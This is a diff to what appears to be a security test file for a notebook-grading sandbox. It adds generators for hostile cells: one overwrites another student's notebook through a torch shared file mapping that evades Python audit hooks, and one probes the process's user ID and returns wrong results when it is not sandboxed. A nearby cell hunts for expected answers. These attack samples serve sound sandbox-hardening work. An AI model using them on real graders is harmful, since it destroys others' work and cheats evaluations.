@@ -188,6 +188,33 @@ print(results)
 '''
 
 
+def native_overwrite(victim: str, replacement: bytes) -> str:
+    """A cell that overwrites another student's notebook with ``replacement`` (padded with JSON
+    whitespace to the victim's length) from C++, through a shared file mapping
+    (torch.UntypedStorage.from_file): no Python audit event sees the write. Issue 31's attack on
+    the basic sandbox: graded before its victim, it turned the victim's notebook into a stub."""
+    return f'''import os, torch
+victim = {victim!r}
+data = {replacement!r}
+data += b" " * max(0, os.stat(victim).st_size - len(data))
+shared = torch.UntypedStorage.from_file(victim, shared=True, nbytes=len(data))
+torch.tensor([], dtype=torch.uint8).set_(shared).copy_(torch.frombuffer(bytearray(data), dtype=torch.uint8))
+print("overwrote", victim)
+'''
+
+
+def uid_probe(function: str) -> str:
+    """A cell after the solutions: ``function`` stays right only where the process runs as an
+    unprivileged user of its own, and first the cell imports standard modules the grader has not."""
+    return f'''import os, statistics, json.tool, email.mime.text, concurrent.futures.process
+_unprivileged = os.getuid() != 0 and os.geteuid() == os.getuid() and not os.getgroups()
+_computed = {function}
+def {function}(*args, **kwargs):
+    out = _computed(*args, **kwargs)
+    return out if _unprivileged else out + 1
+'''
+
+
 READ_EXPECTED = '''import os, glob, sys, gc
 def per_token_loss(logits, tokens):
     """Looks everywhere for the expected answers instead of computing them."""
